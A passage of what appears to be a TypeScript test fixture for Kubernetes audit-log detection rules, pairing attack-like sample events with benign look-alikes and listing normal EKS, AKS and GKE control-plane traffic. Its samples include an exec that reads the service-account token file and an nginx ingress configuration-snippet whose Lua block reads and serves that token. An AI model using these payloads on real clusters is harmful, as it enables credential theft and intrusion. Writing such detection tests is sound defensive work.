  { rule: 'KA-EVADE-009', behaviour: 'a person rewriting an audit webhook ConfigMap in kube-system', hit: { ...mallory, ...configMapWrite('audit-webhook-config', { 'audit-webhook.yaml': 'clusters: []\n' }) },
    miss: { ...mallory, ...configMapWrite('kube-proxy', { 'config.conf': 'mode: ipvs\n' }) }, missWhy: 'another kube-system ConfigMap' },
  { rule: 'KA-EVADE-008', behaviour: 'a refused deletecollection of events', hit: { ...mallory, ...req('deletecollection', 'events', { ns: 'payments', code: 403, level: 'Metadata' }) },
    miss: { ...mallory, ...req('list', 'events', { ns: 'payments', code: 403, level: 'Metadata' }) }, missWhy: 'a refused list' },
  { rule: 'KA-CRED-005', behaviour: 'a token asked for a service account that does not exist (404)', hit: { ...mallory, ...req('create', 'serviceaccounts', { ns: 'kube-system', name: 'admin', sub: 'token', code: 404, level: 'Metadata' }) },
    miss: { ...controller('namespace-controller'), ...req('create', 'serviceaccounts', { ns: 'old-team', name: 'default', sub: 'token', code: 404, level: 'Metadata' }) }, missWhy: 'a kube-system controller racing a namespace deletion' },
  { rule: 'KA-CRON-005', behaviour: 'a CronJob create with a revoked token (401)', hit: { user: {}, stage: 'ResponseStarted', ...createWorkload('CronJob', 'x', 'payments', {}, { code: 401, level: 'Metadata' }) },
    miss: { ...mallory, ...createWorkload('CronJob', 'x', 'payments', {}, { code: 409, level: 'Metadata' }) }, missWhy: 'a create that conflicts with an existing job' },
  { rule: 'KA-EXPOSE-001', behaviour: 'a JSON patch turning a service into a NodePort', hit: { ...mallory, ...req('patch', 'services', { ns: 'payments', name: 'db', body: [{ op: 'replace', path: '/spec/type', value: 'NodePort' }] }) },
    miss: { ...mallory, ...req('patch', 'services', { ns: 'payments', name: 'db', body: [{ op: 'replace', path: '/metadata/labels/tier', value: 'NodePort' }] }) }, missWhy: 'a label that happens to say NodePort' },
  { rule: 'KA-EXPOSE-005', behaviour: 'a person setting a Service\'s load-balancer IP', hit: { ...mallory, ...req('patch', 'services', { ns: 'payments', name: 'db', sub: 'status', body: { status: { loadBalancer: { ingress: [{ ip: '10.96.0.10' }] } } } }) },
    miss: { ...sa('metallb-system', 'controller'), ...req('patch', 'services', { ns: 'payments', name: 'db', sub: 'status', body: { status: { loadBalancer: { ingress: [{ ip: '192.168.10.240' }] } } } }) }, missWhy: 'the load-balancer controller' },
  { rule: 'KA-RBAC-010', behaviour: 'a pod\'s token creating a RoleBinding', hit: { ...podToken, ...roleBinding('RoleBinding', 'self', 'view', [{ kind: 'ServiceAccount', name: 'report-gen', namespace: 'payments' }]) },
    miss: { ...controller('clusterrole-aggregation-controller'), ...req('update', 'clusterroles', { name: 'admin', level: 'Metadata' }) }, missWhy: 'the aggregation controller' },
  { rule: 'KA-EXEC-005', behaviour: 'an exec reading the service-account token', hit: { ...mallory, ...exec('cat /var/run/secrets/kubernetes.io/serviceaccount/token', 101) },
    miss: { ...mallory, ...exec('cat /var/run/secrets/kubernetes.io/serviceaccount/token', 403) }, missWhy: 'the same exec refused (KA-EXEC-004\'s)' },
  { rule: 'KA-EXPOSE-003', behaviour: 'an Ingress without TLS', hit: { ...dana, ...ingress({}, false) },
    miss: { ...dana, ...ingress({}, true) }, missWhy: 'the same Ingress with TLS' },
  { rule: 'KA-EXPOSE-004', behaviour: 'an Ingress with a configuration snippet', hit: { ...mallory, ...ingress({ 'nginx.ingress.kubernetes.io/configuration-snippet': 'content_by_lua_block { ngx.say(io.open("/var/run/secrets/kubernetes.io/serviceaccount/token"):read("*a")) }' }, true) },
    miss: { ...mallory, ...ingress({ 'nginx.ingress.kubernetes.io/rewrite-target': '/' }, true) }, missWhy: 'a rewrite annotation' },
  { rule: 'KA-PERSIST-001', behaviour: 'a service account created in kube-system', hit: { ...mallory, ...req('create', 'serviceaccounts', { ns: 'kube-system', name: 'kube-proxy-helper', body: { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: 'kube-proxy-helper' } } }) },
    miss: { ...controller('service-account-controller'), ...req('create', 'serviceaccounts', { ns: 'kube-system', name: 'default', body: { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: 'default' } } }) }, missWhy: 'the controller creating a namespace\'s default account' },
  { rule: 'KA-PERSIST-002', behaviour: 'a person creating a service account', hit: { ...mallory, ...req('create', 'serviceaccounts', { ns: 'payments', name: 'backup', body: { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: 'backup' } } }) },
    miss: { ...ci, ...req('create', 'serviceaccounts', { ns: 'payments', name: 'backup', body: { kind: 'ServiceAccount', apiVersion: 'v1', metadata: { name: 'backup' } } }) }, missWhy: 'the CI deployer' },
  { rule: 'KA-IMPACT-002', behaviour: 'every deployment of a namespace deleted at once', hit: { ...mallory, ...req('deletecollection', 'deployments', { ns: 'payments', level: 'Metadata' }) },
    miss: { ...controller('namespace-controller'), ...req('deletecollection', 'deployments', { ns: 'old-team', level: 'Metadata' }) }, missWhy: 'the namespace controller emptying a deleted namespace' },
  { rule: 'KA-NODE-002', behaviour: 'a person registering a Node', hit: { ...mallory, ...req('create', 'nodes', { name: 'node-9', body: { kind: 'Node', apiVersion: 'v1', metadata: { name: 'node-9' } } }) },
    miss: { ...node1, ...req('create', 'nodes', { name: 'node-1', body: { kind: 'Node', apiVersion: 'v1', metadata: { name: 'node-1' } } }) }, missWhy: 'a kubelet registering itself' },
];

/** What managed control planes do every day: none of it may raise a high or medium alarm. */
export const MANAGED_CLUSTER_TRAFFIC: Array<{ what: string; event: Raw }> = [
  { what: 'EKS certificate controller approving a kubelet CSR', event: { ...eks('certificate-controller'), ...req('update', 'certificatesigningrequests', { name: 'csr-x', sub: 'approval' }) } },
  { what: 'EKS node manager reading aws-auth and patching it', event: { ...eks('node-manager'), ...configMapWrite('aws-auth', { mapRoles: '- rolearn: arn:aws:iam::111122223333:role/nodes\n' }, 'patch') } },
  { what: 'EKS cluster event watcher listing secrets cluster-wide', event: { ...eks('cluster-event-watcher'), ...req('list', 'secrets', { level: 'Metadata' }) } },
  { what: 'EKS add-on manager creating a DaemonSet with hostNetwork in kube-system', event: { ...eks('addon-manager'), ...createWorkload('DaemonSet', 'aws-node', 'kube-system', { hostNetwork: true, containers: [{ name: 'aws-node', image: '602401143452.dkr.ecr.us-west-2.amazonaws.com/amazon-k8s-cni:v1.15.0', securityContext: { capabilities: { add: ['NET_ADMIN'] } } }] }) } },
  { what: 'AKS service binding cluster-admin', event: { ...aks, ...roleBinding('ClusterRoleBinding', 'aks-cluster-admin-binding', 'cluster-admin', [{ kind: 'User', name: 'clusterAdmin' }]) } },
  { what: 'AKS support identity exec into a pod', event: { ...user('aks-support'), sourceIPs: ['20.62.133.12'], ...exec('ps aux', 101) } },
  { what: 'GKE controller manager minting a token', event: { ...gke, ...req('create', 'serviceaccounts', { ns: 'kube-system', name: 'cloud-provider', sub: 'token' }) } },
  { what: 'GKE health checker on /readyz', event: { ...anonymous, sourceIPs: ['35.191.3.9'], userAgent: 'GoogleHC/1.0', verb: 'get', requestURI: '/readyz', objectRef: undefined } },
  { what: 'AWS ELB health checker on /livez', event: { ...anonymous, sourceIPs: ['10.0.3.4'], userAgent: 'ELB-HealthChecker/2.0', verb: 'get', requestURI: '/livez', objectRef: undefined } },
];
